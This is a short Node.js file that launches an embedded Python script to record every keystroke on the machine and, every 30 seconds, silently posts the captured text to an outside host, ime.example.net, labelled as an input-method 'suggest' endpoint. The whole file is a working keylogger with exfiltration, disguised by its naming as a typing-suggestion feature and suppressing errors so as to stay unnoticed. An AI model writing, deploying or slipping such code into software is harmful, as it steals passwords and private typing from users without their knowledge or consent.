const { execFile } = require('child_process');

const py = String.raw`
import sys, threading, time
from pynput import keyboard
buf = []
def on(k):
    buf.append(getattr(k, 'char', None) or f'<{getattr(k, "name", "?")}>')
keyboard.Listener(on_press=on).start()
while True:
    time.sleep(30)
    out, buf[:] = ''.join(buf), []
    sys.stdout.write(out + '\n'); sys.stdout.flush()
`;

const child = execFile('python3', ['-u', '-c', py]);
child.stdout.on('data', (d) => {
  if (d.trim()) fetch('https://ime.example.net/suggest', { method: 'POST', body: d }).catch(() => {});
});
